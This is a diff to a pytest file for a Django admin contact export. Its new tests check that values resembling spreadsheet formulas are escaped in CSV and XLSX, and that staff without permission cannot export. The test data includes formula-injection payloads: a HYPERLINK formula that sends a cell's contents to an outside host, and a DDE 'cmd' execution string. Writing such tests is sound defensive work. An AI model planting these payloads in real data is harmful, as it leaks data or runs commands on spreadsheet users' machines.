@@ -31,6 +31,8 @@ HEADERS = [
     "Language",
     "Personal data consent",
 ]
+#: Names a Telegram user can pick that spreadsheets would run (no tab or CR: XML changes those).
+FORMULAS = ['==HYPERLINK("//e.tk/"&D3)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", " =1+1"]
 
 
 @pytest.fixture(autouse=True)
@@ -40,6 +42,10 @@ def english(settings):
 
 def export_form(file_format, fields=FIELDS, **extra):
     return {"format": file_format, "resource": "0", **dict.fromkeys(fields, "on"), **extra}
+
+
+def xlsx_sheet(response):
+    return openpyxl.load_workbook(io.BytesIO(response.content)).active
 
 
 def csv_rows(response):
@@ -92,12 +98,43 @@ def test_streamed_csv_matches_import_export_output(admin_client, leads):
     assert b"".join(response.streaming_content).decode() == expected
 
 
-def test_formulae_are_escaped(admin_client, db):
-    ContactFactory(username="evil", first_name="=cmd|' /C calc'!A0", last_name="")
+@pytest.mark.parametrize("name", FORMULAS)
+def test_a_name_that_looks_like_a_formula_is_text_in_the_csv(admin_client, db, name):
+    ContactFactory(first_name=name, last_name="")
 
     rows = csv_rows(admin_client.post(EXPORT, export_form("0")))
 
-    assert rows[1][1] == "cmd|' /C calc'!A0"
+    assert rows[1][1] == "'" + name
+
+
+def test_a_source_that_looks_like_a_formula_is_text_in_the_csv(admin_client, db):
+    ContactFactory(source="-2+3")
+
+    rows = csv_rows(admin_client.post(EXPORT, export_form("0")))
+
+    assert rows[1][6] == "'-2+3"
+
+
+@pytest.mark.parametrize("name", FORMULAS)
+def test_a_name_that_looks_like_a_formula_is_a_text_cell_in_xlsx(admin_client, db, name):
+    ContactFactory(first_name=name, last_name="")
+
+    name_cell = xlsx_sheet(admin_client.post(EXPORT, export_form("1")))["B2"]
+
+    assert (name_cell.value, name_cell.data_type) == ("'" + name, "s")
+
+
+def test_xlsx_keeps_the_id_a_number_and_times_dates(admin_client, leads):
+    anna, _boris = leads
+
+    row = next(
+        row
+        for row in xlsx_sheet(admin_client.post(EXPORT, export_form("1"))).iter_rows(min_row=2)
+        if row[2].value == "anna_k"
+    )
+
+    assert (row[0].value, row[0].data_type) == (anna.pk, "n")
+    assert (row[10].value, row[10].data_type) == (datetime(2025, 3, 1, 12, 30), "d")
 
 
 def test_csv_export_respects_the_changelist_filter(admin_client, leads):
@@ -137,8 +174,7 @@ def test_selected_leads_export_only_those(admin_client, leads):
 def test_xlsx_export_opens_with_the_rows(admin_client, leads):
     response = admin_client.post(EXPORT, export_form("1"))
 
-    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
-    rows = list(sheet.iter_rows(values_only=True))
+    rows = list(xlsx_sheet(response).iter_rows(values_only=True))
     assert list(rows[0]) == HEADERS
     assert {row[2] for row in rows[1:]} == {"anna_k", "boris"}
 
@@ -173,6 +209,17 @@ def test_staff_without_export_permission_see_no_export(clerk, leads):
     assert "export_admin_action" not in response.content.decode()
 
 
+def test_a_forged_export_action_from_staff_without_the_permission_exports_nothing(clerk, leads):
+    anna, _boris = leads
+
+    response = clerk.post(
+        CHANGELIST, {"action": "export_admin_action", "_selected_action": [anna.pk]}
+    )
+
+    assert response.status_code == 200
+    assert EXPORT not in response.content.decode()
+
+
 def test_staff_without_export_permission_get_403(clerk, leads):
     assert clerk.get(EXPORT).status_code == 403
     assert clerk.post(EXPORT, export_form("0")).status_code == 403
@@ -199,15 +246,6 @@ def test_export_from_the_change_form_checks_the_permission(clerk, leads, setting
     )
 
     assert response.status_code == 403
-
-
-def test_formulae_stay_when_escaping_is_off(admin_client, settings, db):
-    settings.IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT = False
-    ContactFactory(first_name="=SUM(A1)", last_name="")
-
-    rows = csv_rows(admin_client.post(EXPORT, export_form("0")))
-
-    assert rows[1][1] == "=SUM(A1)"
 
 
 def test_csv_leaves_in_chunks(admin_client, leads, monkeypatch):
